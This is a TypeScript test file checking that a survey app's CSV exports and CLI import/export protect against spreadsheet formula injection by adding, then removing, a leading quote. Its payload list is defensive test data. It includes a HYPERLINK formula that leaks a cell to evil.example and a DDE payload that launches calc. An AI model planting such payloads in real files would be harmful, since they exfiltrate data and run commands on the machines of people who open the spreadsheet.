// Spreadsheet formula injection: free text (and an authority's name) that a
// spreadsheet would run as a formula comes out of every CSV a person may
// open with a ' in front (OWASP), and `hearme import` takes exactly that '
// off again, so export then import gives back every text exactly.
import { randomUUID } from 'node:crypto';
import { readFileSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { parse } from 'csv-parse/sync';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { csvField } from '../../server/csv/write.js';
import { addAuthority } from '../../server/repos/authorities.js';
import { createWave } from '../../server/repos/waves.js';
import { currentInstrument } from '../../surveys/index.js';
import { fullAnswers } from '../helpers/answers.js';
import { testApp, type TestApp } from '../helpers/app.js';
import { freshDatabase, query, runCli } from '../helpers/cli.js';
import { addUser, signIn, type Session } from '../helpers/portal.js';

const PAYLOADS = [
  '=HYPERLINK("http://evil.example/?leak="&A2,"Click for help")',
  "+cmd|' /C calc'!A0",
  '@SUM(1)',
  '-1+1',
  '\t=1+1',
  '\r=1+1',
  // Already starting with ' then a formula: gets one more ', so import gives it back as it was.
  "'=1+1",
];
const NAME = '=HYPERLINK("http://evil.example/","Council")';
const CODE = 'E06000002';

/** A cell a spreadsheet would run: starts with = + - @ tab or CR, and is not a plain number. */
const runnable = (cell: string) => /^[=+\-@\t\r]/.test(cell) && !/^-?\d+(?:\.\d+)?$/.test(cell);
const cells = (csv: string): string[][] => parse(csv.replace(/^\uFEFF/, ''), { relax_column_count: false });

function expectNeutral(csv: string) {
  const rows = cells(csv);
  expect(rows.flat().filter(runnable)).toEqual([]);
  return rows;
}

let t: TestApp;
let officer: Session;
let waveId: number;
const TEXT_QUESTION = 'make_care_better';
beforeAll(async () => {
  t = await testApp({ MIN_BASE: '2' });
  const authority = await addAuthority(t.db, { code: CODE, name: NAME, region: null });
  const wave = await createWave(t.db, { authority_id: authority.id, programme: 'ylyc', period: '2024', opens_on: null, closes_on: null });
  waveId = wave.id;
  const inst = currentInstrument('ylyc-11-17')!;
  for (const [i, text] of PAYLOADS.entries()) {
    const answers = { ...fullAnswers(inst, i), [TEXT_QUESTION]: text };
    const res = await t.app.inject({
      method: 'POST',
      url: '/api/responses',
      payload: { id: randomUUID(), code: wave.access_code, instrument: inst.id, version: inst.version, answers },
    });
    expect(res.statusCode).toBe(201);
  }
  await addUser(t, 'officer@example.org', 'authority_officer', [CODE]);
  officer = await signIn(t, 'officer@example.org');
});
afterAll(() => t.close());

const env = () => ({ DATABASE_PATH: t.config.databasePath, MIN_BASE: '2' });
const textsOf = (rows: string[][]) => rows.slice(1).map((r) => r[rows[0]!.indexOf(TEXT_QUESTION)]!);

describe('CSV files people open in a spreadsheet', () => {
  it('the portal responses.csv: every payload with a leading quote', async () => {
    const res = await officer.call('GET', `/api/portal/waves/${waveId}/responses.csv`);
    expect(res.statusCode).toBe(200);
    const rows = expectNeutral(res.body);
    expect(textsOf(rows).sort()).toEqual(PAYLOADS.map((p) => `'${p}`).sort());
  });

  it('hearme export, and hearme import gives back the texts exactly, byte for byte on export again', async () => {
    const exported = await runCli(['export', '--authority', CODE, '--period', '2024'], env());
    expect(exported.code).toBe(0);
    expect(textsOf(expectNeutral(exported.stdout)).sort()).toEqual(PAYLOADS.map((p) => `'${p}`).sort());

    const target = freshDatabase(t.dir);
    expect((await runCli(['authority', 'add', '--code', CODE, '--name', 'Middlesbrough'], target.env)).code).toBe(0);
    const file = join(t.dir, 'exported.csv');
    writeFileSync(file, exported.stdout);
    const imported = await runCli(['import', file], target.env);
    expect(imported.stderr).toBe('');
    expect(imported.code).toBe(0);
    const stored = query<{ value: string }>(target.path, 'SELECT value FROM answers WHERE question = ? ORDER BY value', TEXT_QUESTION);
    expect(stored.map((r) => r.value)).toEqual([...PAYLOADS].sort());
    const again = await runCli(['export', '--authority', CODE, '--period', '2024', '--out', join(t.dir, 'again.csv')], target.env);
    expect(again.code).toBe(0);
    expect(readFileSync(join(t.dir, 'again.csv'), 'utf8')).toBe(exported.stdout);
  });

  it('hearme report --format csv and the portal report.csv: the authority name with a leading quote', async () => {
    const cli = await runCli(['report', '--authority', CODE, '--period', '2024', '--format', 'csv'], env());
    expect(cli.code).toBe(0);
    const portal = await officer.call('GET', `/api/portal/waves/${waveId}/report.csv`);
    for (const csv of [cli.stdout, portal.body]) {
      const rows = expectNeutral(csv);
      const name = rows[0]!.indexOf('authority_name');
      expect(rows.slice(1).every((r) => r[name] === `'${NAME}`)).toBe(true);
    }
  });

  it('leaves numbers alone: a negative figure is not a formula and must stay a number', () => {
    expect(['-3.2', '-12', '0.04', '-1e-7'].map(csvField)).toEqual(['-3.2', '-12', '0.04', '-1e-7']);
    expect(['-1+1', '+44 7700', '-', '@'].map(csvField)).toEqual(["'-1+1", "'+44 7700", "'-", "'@"]);
  });
});
